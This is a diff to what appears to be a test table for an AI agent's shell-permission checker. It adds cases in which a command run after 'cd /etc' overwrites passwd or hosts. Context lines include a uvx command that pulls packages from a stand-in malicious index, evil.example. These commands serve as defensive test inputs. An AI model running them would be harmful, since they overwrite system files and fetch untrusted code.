@@ -86,6 +86,9 @@ WIDER = [
     ("Bash:gem install", "gem install rails", "gem install ./x.gem"),
     ("Bash:net:uvx:ruff", "uvx ruff check", "uvx ruff check > /home/u/x"),
     ("Bash:net:uvx:ruff", "uvx ruff check", "uvx --index-url https://evil.example/s ruff check"),
+    # a redirection after `cd` writes where the command runs (tree-sitter hangs it on the list)
+    ("Bash:outside:/etc:r:", "ls /etc", "cd /etc && echo x > passwd"),
+    ("Bash:outside:/etc:r:", "ls /etc", "cd /etc && ls; cat x > hosts"),
     # a dev command asks when it runs outside the worktree, whatever read key is stored
     ("Bash:outside:/home/u/other:r:", "ls /home/u/other", "cd /home/u/other && npm test"),
     ("Bash:outside:/home/u/other:r:", "ls /home/u/other", "cd /home/u/other && pytest"),
